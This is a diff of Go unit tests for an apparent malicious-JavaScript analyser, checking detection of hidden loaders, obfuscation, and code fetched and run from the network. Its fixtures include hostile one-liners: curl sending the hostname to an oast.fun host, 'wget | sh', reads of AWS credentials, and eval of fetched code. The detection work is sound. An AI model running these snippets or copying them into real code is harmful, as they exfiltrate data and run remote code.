@@ -253,3 +253,203 @@ d("d29ybGQ=");`
 		t.Error("the inner identity function d was taken for the module's decoder")
 	}
 }
+
+// TestHiddenLoaders covers ways to reach a module without calling require
+// by name: the loader behind it, native bindings, createRequire, dynamic
+// import with a callback, and the Function constructor reached through
+// .constructor chains.
+func TestHiddenLoaders(t *testing.T) {
+	tests := []struct{ name, src, callee string }{
+		{"module._load", `module.constructor._load("child_process").execSync("id")`, "child_process.execSync"},
+		{"require('module')._load", `const M = require("module"); M._load("child_process").exec("id")`, "child_process.exec"},
+		{"process.binding", `const s = process.binding("spawn_sync"); s.spawn({file: "/bin/sh"})`, "child_process.spawn"},
+		{"createRequire", `import { createRequire } from "module"; const r = createRequire(import.meta.url); r("child_process").exec("id")`, "child_process.exec"},
+		{"import().then", `import("node:child_process").then(cp => cp.exec("id"))`, "child_process.exec"},
+		{"import().then destructured", `import("child_process").then(({ spawn }) => spawn("sh"))`, "child_process.spawn"},
+		{"await import", `const cp = await import("child_process"); cp.execSync("id")`, "child_process.execSync"},
+		{"constructor.constructor", `const F = [].constructor.constructor; F("return 1")()`, "Function"},
+		{"function literal constructor", `(function () {}).constructor("return 1")()`, "Function"},
+		{"literal method constructor", `[]["filter"]["constructor"]("return 1")()`, "Function"},
+		{"getPrototypeOf", `Object.getPrototypeOf(async function () {}).constructor("return 1")`, "Function"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			f := Analyze("x.mjs", []byte(tc.src), DefaultLimits())
+			if hasCall(f, tc.callee) == nil {
+				var got []string
+				for _, c := range f.Calls {
+					got = append(got, c.Callee)
+				}
+				t.Errorf("no %s call; calls %q (mode %v %s)", tc.callee, got, f.Mode, f.ParseError)
+			}
+		})
+	}
+	// look-alikes: an object's own constructor property and a local
+	// function named _load are not loaders
+	f := Analyze("x.js", []byte(`class A {}; const a = new A(); a.constructor("x"); const loader = { _load(n) { return n } }; loader._load("child_process").exec("id")`), DefaultLimits())
+	if hasCall(f, "Function") != nil || hasCall(f, "child_process.exec") != nil {
+		t.Errorf("look-alikes resolved: %+v", f.Calls)
+	}
+}
+
+func TestArrayIndexFolding(t *testing.T) {
+	f := Analyze("x.js", []byte(`var _0x = ['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73', '\x65\x78\x65\x63'];
+require(_0x[0])[_0x[1]]('id');`), DefaultLimits())
+	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
+		t.Errorf("string array not folded: imports %+v calls %+v", f.Imports, f.Calls)
+	}
+	// a rotated array (obfuscator.io) has other elements at run time:
+	// folding its literal order would show the wrong module
+	f = Analyze("x.js", []byte(`var a = ['fs', 'child_process'];
+(function (arr, n) { while (--n) arr.push(arr.shift()) })(a, 2);
+require(a[0]);`), DefaultLimits())
+	if hasImport(f, "fs") {
+		t.Errorf("rotated array folded to its literal order: %+v", f.Imports)
+	}
+	f = Analyze("x.js", []byte(`var a = ['fs', 'os']; a[0] = 'child_process'; require(a[0]);`), DefaultLimits())
+	if hasImport(f, "fs") {
+		t.Errorf("written array folded: %+v", f.Imports)
+	}
+}
+
+func TestArgShape(t *testing.T) {
+	f := Analyze("x.js", []byte("const os = require('os'); const { exec } = require('child_process');\n"+
+		"exec(`curl -d \"${os.hostname()}\" https://abc.oast.fun`);\n"+
+		"exec('wget ' + url + ' -O- | sh');"), DefaultLimits())
+	var shapes []string
+	for _, c := range f.Calls {
+		if c.Callee == "child_process.exec" && len(c.Args) > 0 {
+			if c.Args[0].Known {
+				t.Errorf("a command with run-time parts is Known: %+v", c.Args[0])
+			}
+			shapes = append(shapes, c.Args[0].Shape)
+		}
+	}
+	want := []string{`curl -d "` + Hole + `" https://abc.oast.fun`, "wget " + Hole + " -O- | sh"}
+	if strings.Join(shapes, "\n") != strings.Join(want, "\n") {
+		t.Errorf("shapes %q, want %q", shapes, want)
+	}
+	if !hasString(f, `" https://abc.oast.fun`) {
+		t.Errorf("the template's tail is not among the strings: %+v", f.Strings)
+	}
+}
+
+func TestNetworkDataFlow(t *testing.T) {
+	src := `const https = require("https"), vm = require("vm");
+let keep = "";
+https.get("https://x.example/p.js", r => {
+  let s = "";
+  r.on("data", c => s += c);
+  r.on("end", () => vm.runInThisContext(s));
+});
+fetch(u).then(r => r.json()).then(({ code }) => new Function(code)());
+const body = await (await fetch(u)).text();
+const parsed = JSON.parse(body);
+eval(parsed.script);
+let local = ""; process.stdin.on("data", c => local += c); eval(local);`
+	f := Analyze("x.mjs", []byte(src), DefaultLimits())
+	got := map[string]string{}
+	for _, c := range f.Calls {
+		switch c.Callee {
+		case "vm.runInThisContext", "Function", "eval":
+			if got[c.Callee] == "" || c.NetArg != "" {
+				got[c.Callee+"@"+itoa(c.Pos.Line)] = c.NetArg
+			}
+		}
+	}
+	want := map[string]string{"vm.runInThisContext@6": "s", "Function@8": "code", "eval@11": "parsed", "eval@12": ""}
+	for k, v := range want {
+		if got[k] != v {
+			t.Errorf("%s: NetArg %q, want %q (all %v)", k, got[k], v, got)
+		}
+	}
+}
+
+func TestPathJoin(t *testing.T) {
+	f := Analyze("x.js", []byte(`const p = require("path"), os = require("os"); fs.readFileSync(p.join(os.homedir(), ".aws", "credentials")); p.join(dir, x)`), DefaultLimits())
+	if !hasString(f, Hole+"/.aws/credentials") {
+		t.Errorf("strings %+v", f.Strings)
+	}
+	for _, s := range f.Strings {
+		if strings.Contains(s.Value, Hole+"/"+Hole) {
+			t.Errorf("a join of run-time parts only became a string: %q", s.Value)
+		}
+	}
+}
+
+func TestHostAndPath(t *testing.T) {
+	f := Analyze("x.js", []byte(`https.request({ hostname: "discord.com", path: "/api/webhooks/1/abc", method: "POST" })`), DefaultLimits())
+	if len(f.HostProps) != 1 || f.HostProps[0].Value != "discord.com/api/webhooks/1/abc" {
+		t.Errorf("host props %+v", f.HostProps)
+	}
+}
+
+func TestIndirectCalls(t *testing.T) {
+	src := `const cp = require("child_process");
+cp.execSync.call(cp, "id -u");
+cp.exec.apply(null, ["uname -a"]);
+Reflect.apply(cp.spawn, undefined, ["sh", ["-c", "true"]]);
+Object.prototype.hasOwnProperty.call(o, "k");`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	for callee, arg := range map[string]string{"child_process.execSync": "id -u", "child_process.exec": "uname -a", "child_process.spawn": "sh"} {
+		c := hasCall(f, callee)
+		if c == nil || len(c.Args) == 0 || c.Args[0].Value != arg {
+			t.Errorf("%s: %+v", callee, c)
+		}
+	}
+}
+
+func TestCodeStringsAnalysed(t *testing.T) {
+	for _, src := range []string{
+		`eval("require('child_process').execSync('id')")`,
+		`setTimeout("require('child_process').execSync('id')", 10)`,
+		`new Function("c", "return require('child_process').execSync(c)")("id")`,
+		`global["ev" + "al"]("require('child_process').execSync('id')")`,
+	} {
+		f := Analyze("x.js", []byte(src), DefaultLimits())
+		if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
+			t.Errorf("%s: payload not analysed: imports %+v", src, f.Imports)
+		}
+	}
+	// a bare name or a getter of the global object is no payload
+	f := Analyze("x.js", []byte(`var r = eval("require"); var g = Function("return this")();`), DefaultLimits())
+	if len(f.Imports) != 0 {
+		t.Errorf("imports from non-payloads: %+v", f.Imports)
+	}
+	// code in a plain literal is hidden from bundlers, not encoded: its
+	// module name is not a decoded string; an encoded payload's is
+	f = Analyze("x.js", []byte(`eval('import("@x/node-only")'); eval(atob("cmVxdWlyZSgiQHkvbSIp"))`), DefaultLimits())
+	decoded := map[string]bool{}
+	for _, s := range f.Strings {
+		decoded[s.Value] = decoded[s.Value] || s.Decoded
+	}
+	if !hasImport(f, "@x/node-only") || decoded["@x/node-only"] || !hasImport(f, "@y/m") || !decoded["@y/m"] {
+		t.Errorf("imports %+v, decoded %v", f.Imports, decoded)
+	}
+}
+
+func TestPayloadBudget(t *testing.T) {
+	// one long constant of code run many times is analysed once, and
+	// payloads beyond the file's budget are not analysed at all
+	body := strings.Repeat("x = f(1);", 20000) + "require('child_process').exec('id');"
+	src := "var s = \"" + body + "\";\n" + strings.Repeat("eval(s);\n", 2000)
+	f := Analyze("a.js", []byte(src), DefaultLimits())
+	n := 0
+	for _, c := range f.Calls {
+		if c.Callee == "child_process.exec" {
+			n++
+		}
+	}
+	if n != 1 {
+		t.Errorf("payload analysed %d times, want once", n)
+	}
+	var many strings.Builder
+	many.WriteString("var s = \"" + strings.Repeat("x = f(1);", 5000) + "\";\n")
+	for i := 0; i < 400; i++ {
+		many.WriteString("eval(s + \"require('m" + itoa(i) + "')\");\n")
+	}
+	f = Analyze("b.js", []byte(many.String()), DefaultLimits())
+	if !f.Truncated || len(f.Imports) >= 400 {
+		t.Errorf("distinct payloads past the budget: truncated %v, %d imports", f.Truncated, len(f.Imports))
+	}
+}
